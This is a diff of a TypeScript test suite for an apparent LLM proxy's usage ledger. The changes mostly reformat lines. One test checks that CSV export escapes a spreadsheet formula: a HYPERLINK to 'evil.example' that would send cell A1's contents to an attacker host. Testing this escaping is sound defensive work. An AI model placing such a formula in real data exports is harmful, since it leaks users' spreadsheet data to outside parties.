@@ -20,7 +20,12 @@ const PRICE = { input_per_mtok: 1000, output_per_mtok: 2000 };
 beforeAll(async () => {
   up = await startMockUpstream();
   cluster = await startTestCluster("client_reqid", 1, {}, { worker: true });
-  const p = await cluster.admin("POST", "/v1/db/providers", { name: "p", adapter: "openai-compatible", base_url: up.baseUrl, api_key: "sk-p-0001" });
+  const p = await cluster.admin("POST", "/v1/db/providers", {
+    name: "p",
+    adapter: "openai-compatible",
+    base_url: up.baseUrl,
+    api_key: "sk-p-0001",
+  });
   expect(p.status).toBe(200);
   const m = await cluster.admin("POST", "/v1/db/models", { name: "m", provider_id: p.body.provider_id, upstream_model: "gpt-4o" });
   expect(m.status).toBe(200);
@@ -83,11 +88,15 @@ describe("client request ids in the ledger", () => {
     };
     expect(list.data).toHaveLength(7);
     expect(list.data.every((r) => r.client_request_id === shared)).toBe(true);
-    const none = (await (await fetch(`${cluster.cp.url}/v1/db/usage?client_request_id=other`, { headers: auth })).json()) as { data: unknown[] };
+    const none = (await (await fetch(`${cluster.cp.url}/v1/db/usage?client_request_id=other`, { headers: auth })).json()) as {
+      data: unknown[];
+    };
     expect(none.data).toHaveLength(0);
     const tooLong = await fetch(`${cluster.cp.url}/v1/db/usage?client_request_id=${"x".repeat(200)}`, { headers: auth });
     expect(tooLong.status).toBe(400);
-    const csv = await (await fetch(`${cluster.cp.url}/v1/db/usage?client_request_id=${shared}`, { headers: { ...auth, accept: "text/csv" } })).text();
+    const csv = await (
+      await fetch(`${cluster.cp.url}/v1/db/usage?client_request_id=${shared}`, { headers: { ...auth, accept: "text/csv" } })
+    ).text();
     const [head, ...lines] = csv.trim().split("\r\n");
     expect(head!.split(",").slice(0, 3)).toEqual(["id", "client_request_id", "time"]);
     expect(lines).toHaveLength(7);
@@ -101,7 +110,9 @@ describe("client request ids in the ledger", () => {
     const r = await chat(proxy, keys.a.key, "formula-1", model);
     expect(r.status).toBe(404);
     await waitFor(async () => (await db.query("SELECT 1 FROM usage_records")).rowCount === 1, 30_000, 100);
-    const csv = await (await fetch(`${cluster.cp.url}/v1/db/usage?client_request_id=formula-1`, { headers: { ...auth, accept: "text/csv" } })).text();
+    const csv = await (
+      await fetch(`${cluster.cp.url}/v1/db/usage?client_request_id=formula-1`, { headers: { ...auth, accept: "text/csv" } })
+    ).text();
     const line = csv.trim().split("\r\n")[1]!;
     expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`);
     expect(line).not.toMatch(/(^|,)=HYPERLINK/);
